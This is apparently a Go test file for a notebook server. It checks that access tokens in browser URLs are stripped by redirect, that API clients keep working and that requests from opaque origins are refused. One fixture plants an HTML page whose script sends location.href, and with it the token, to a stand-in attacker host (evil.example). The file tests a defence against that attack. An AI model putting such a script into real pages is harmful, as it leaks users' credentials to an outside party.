package apiserver_test

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A page that a browser opens with ?token= never shows with the token in its address, where
// its scripts would read it: the navigation logs the browser in and is sent on to the same
// address without the token, on every route. Ben's HTML, which an admin opens from /files
// with the admin's token, is served only at an address without it.
func TestURLToken_NavigationsAreSentOnWithoutTheToken(t *testing.T) {
	s := newServer(t, withAssets(builtAssets))
	s.putFile("ben/page.html", []byte(`<script>fetch("https://evil.example/?" + location.href)</script>`))
	s.putFile("ben/nb.ipynb", []byte(bensNotebook))
	r := s.do("GET", "/tree/ben/nb.ipynb", nil, "Accept", acceptHTML)
	expect(t, r, http.StatusFound)
	notebookPage := r.header.Get("Location")

	for _, path := range []string{"/", "/tree", "/tree/ben", notebookPage, "/files/ben/page.html", "/nbconvert/html/ben/nb.ipynb",
		"/api/contents/ben", "/api/status"} {
		for _, nav := range [][]string{
			{"Sec-Fetch-Mode", "navigate", "Sec-Fetch-Dest", "document", "Accept", acceptHTML},
			{"Sec-Fetch-Mode", "navigate", "Sec-Fetch-Dest", "iframe", "Accept", acceptHTML},
			// A browser that sends no Sec-Fetch-Mode (plain HTTP to another host than
			// localhost) still asks for HTML.
			{"Accept", acceptHTML},
		} {
			b, jar := newBrowser(t, s)
			r := b.do("GET", path+"?a=1&token="+testToken+"&b=%20", nil, append([]string{"Authorization", ""}, nav...)...)
			if r.status != http.StatusFound || r.header.Get("Location") != path+"?a=1&b=%20" {
				t.Errorf("GET %s with the token, %v: %d to %q, want %s?a=1&b=%%20", path, nav, r.status, r.header.Get("Location"), path)
			}
			if strings.Contains(string(r.body), testToken) || r.header.Get("Cache-Control") != "no-store" {
				t.Errorf("GET %s: %v %s", path, r.header, r.body)
			}
			// The browser is logged in: the address without the token serves it.
			r = b.do("GET", path+"?a=1&b=%20", nil, append(asCookies(t, b, jar), nav...)...)
			if r.status != http.StatusOK {
				t.Errorf("GET %s without the token after the redirect: %d %s", path, r.status, r.body)
			}
		}
	}
	r = s.do("HEAD", "/files/ben/page.html?token="+testToken, nil, "Authorization", "", "Sec-Fetch-Mode", "navigate")
	if r.status != http.StatusFound || r.header.Get("Location") != "/files/ben/page.html" {
		t.Errorf("HEAD with the token: %d to %q", r.status, r.header.Get("Location"))
	}
	// The token as the only parameter, or twice, or encoded: none is left.
	for query, want := range map[string]string{
		"token=" + testToken:                            "/files/ben/page.html",
		"token=" + testToken + "&token=x":               "/files/ben/page.html",
		"%74oken=" + testToken + "&tokens=1&x=token%3D": "/files/ben/page.html?tokens=1&x=token%3D",
	} {
		r := s.do("GET", "/files/ben/page.html?"+query, nil, "Authorization", "", "Sec-Fetch-Mode", "navigate")
		if r.status != http.StatusFound || r.header.Get("Location") != want {
			t.Errorf("?%s: %d to %q, want %q", query, r.status, r.header.Get("Location"), want)
		}
	}
}

// API clients that pass ?token= are served as before, and log a browser in as before: a
// script's fetch, JupyterLab's WebSocket (which connects with ?token=), a client that asks
// for JSON or anything, and requests that change something.
func TestURLToken_OtherRequestsWithTheTokenAreServedAsTheyCome(t *testing.T) {
	s := newServer(t)
	s.putFile("a.txt", []byte("x"))
	for _, h := range [][]string{
		nil,
		{"Accept", "*/*"},
		{"Accept", "application/json"},
		{"Sec-Fetch-Mode", "cors", "Sec-Fetch-Dest", "empty", "Accept", acceptHTML},
		{"Sec-Fetch-Mode", "same-origin", "Sec-Fetch-Dest", "empty"},
		{"Sec-Fetch-Mode", "no-cors", "Sec-Fetch-Dest", "image"},
	} {
		b, jar := newBrowser(t, s)
		r := b.do("GET", "/files/a.txt?token="+testToken, nil, append([]string{"Authorization", ""}, h...)...)
		if r.status != http.StatusOK || string(r.body) != "x" {
			t.Errorf("GET with the token, %v: %d %s", h, r.status, r.body)
		}
		// ... and the browser holds the login.
		asCookies(t, b, jar)
	}
	expect(t, s.do("PUT", "/api/contents/b.txt?token="+testToken, `{"type":"file","format":"text","content":"y"}`,
		"Authorization", "", "Accept", acceptHTML), http.StatusCreated)
	// A WebSocket handshake reaches its route (here, no such kernel) rather than a redirect.
	r := s.do("GET", "/api/kernels/k1/channels?token="+testToken, nil, "Authorization", "", "Connection", "Upgrade",
		"Upgrade", "websocket", "Sec-WebSocket-Version", "13", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==",
		"Sec-Fetch-Mode", "websocket", "Accept", acceptHTML)
	expect(t, r, http.StatusNotFound)
}

// A request from an opaque origin (what a sandboxed page's scripts send: Origin: null) is
// refused even when it carries a token, in its header or its address: it is how ben's page
// would use a token it read, from the admin's browser.
func TestURLToken_AnOpaqueOriginIsRefusedEvenWithAToken(t *testing.T) {
	s := newServer(t)
	s.putFile("a.txt", []byte("x"))
	for _, tc := range []struct{ method, path, body string }{
		{"GET", "/api/contents", ""},
		{"GET", "/files/a.txt", ""},
		{"PUT", "/api/contents/b.txt", `{"type":"file","format":"text","content":"y"}`},
		{"POST", "/api/kernels", `{"name":"python3"}`},
	} {
		expect(t, s.do(tc.method, tc.path, tc.body, "Origin", "null"), http.StatusForbidden)
		expect(t, s.do(tc.method, tc.path+"?token="+testToken, tc.body, "Authorization", "", "Origin", "null"), http.StatusForbidden)
	}
	if _, err := os.Stat(filepath.Join(s.root, "b.txt")); !os.IsNotExist(err) {
		t.Errorf("b.txt: %v, want none", err)
	}
	// The same token from this server's pages, or from no page, passes.
	expect(t, s.do("GET", "/api/contents", nil, "Origin", s.url), http.StatusOK)
	expect(t, s.do("GET", "/api/contents", nil), http.StatusOK)
}
